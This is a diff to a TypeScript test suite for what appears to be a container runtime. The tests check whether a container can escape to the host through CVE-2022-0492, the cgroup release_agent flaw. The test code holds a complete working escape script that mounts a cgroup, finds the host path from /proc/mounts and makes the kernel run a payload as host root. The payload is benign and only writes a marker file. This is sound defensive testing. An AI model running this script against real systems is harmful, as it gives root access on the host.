@@ -3,7 +3,17 @@
  * attack fails in a container as everyone makes it, and succeeds in one whose settings take the fence away.
  */
 import assert from 'node:assert/strict';
-import { mkdirSync, mkdtempSync, readFileSync, rmdirSync, rmSync, statfsSync, statSync, writeFileSync } from 'node:fs';
+import {
+  existsSync,
+  mkdirSync,
+  mkdtempSync,
+  readFileSync,
+  rmdirSync,
+  rmSync,
+  statfsSync,
+  statSync,
+  writeFileSync,
+} from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { after, before, describe, it } from 'node:test';
@@ -52,27 +62,33 @@ describe('the kernel, asked by a container', () => {
 
   /** CVE-2022-0492: the kernel starts a program of cgroup v1's choice, as root of the host, when a group becomes empty. */
   describe('to start a program as release_agent', () => {
-    const attack = async (...flags: string[]) => {
-      const made = join(directory, 'made');
-      const script = [
+    const attack = (made: string) =>
+      [
         `mkdir /tmp/cg && mount -t cgroup -o none,name=${HIERARCHY} none /tmp/cg && mkdir /tmp/cg/x || exit 1`,
         'echo 1 > /tmp/cg/x/notify_on_release',
         // Where the host has the container's files is told by its own mount.
         'upper=$(sed -n "s/.*upperdir=\\([^,]*\\).*/\\1/p" /proc/mounts)',
         `printf '#!/bin/sh\\necho $$ > ${made}\\n' > /payload; chmod +x /payload`,
         'echo "$upper/payload" > /tmp/cg/release_agent && sh -c "echo 0 > /tmp/cg/x/cgroup.procs"',
-        'for i in 1 2 3 4 5 6 7 8 9; do rmdir /tmp/cg/x && break; sleep 0.1; done; sleep 0.3; umount /tmp/cg',
+        'for i in $(seq 200); do rmdir /tmp/cg/x && break; sleep 0.1; done',
       ].join('\n');
-      await inside(flags, script);
-      const succeeded = statSync(made, { throwIfNoEntry: false }) !== undefined;
-      rmSync(made, { force: true });
-      return succeeded;
+    const doesNot = async (...flags: string[]) => {
+      const made = join(directory, 'made');
+      await inside(flags, `${attack(made)}\nsleep 0.3; umount /tmp/cg`);
+      assert.equal(existsSync(made), false);
     };
-    it('does not', async () => assert.equal(await attack(), false));
-    it('does not with SYS_ADMIN either: it is in a cgroup namespace of its own', async () =>
-      assert.equal(await attack('--cap-add', 'SYS_ADMIN'), false));
-    it("does, with SYS_ADMIN and the host's cgroup namespace", async () =>
-      assert.equal(await attack('--cap-add', 'SYS_ADMIN', '--cgroupns', 'host'), true));
+    it('does not', () => doesNot());
+    it('does not with SYS_ADMIN either: it is in a cgroup namespace of its own', () =>
+      doesNot('--cap-add', 'SYS_ADMIN'));
+    it("does, with SYS_ADMIN and the host's cgroup namespace", async () => {
+      const made = join(directory, 'made');
+      const flags = ['--cap-add', 'SYS_ADMIN', '--cgroupns', 'host'];
+      // The program lies in the container, so that has to be there until the kernel has come to start it.
+      const command = ['sh', '-c', `${attack(made)}\nsleep 1000`];
+      const id = await world.daemon.ok(['run', '-d', ...flags, world.busybox, ...command]);
+      await eventually('the kernel starts it', () => existsSync(made) || null);
+      await world.daemon.ok(['rm', '-f', id]);
+    });
   });
 
   describe('to change it through its files', () => {
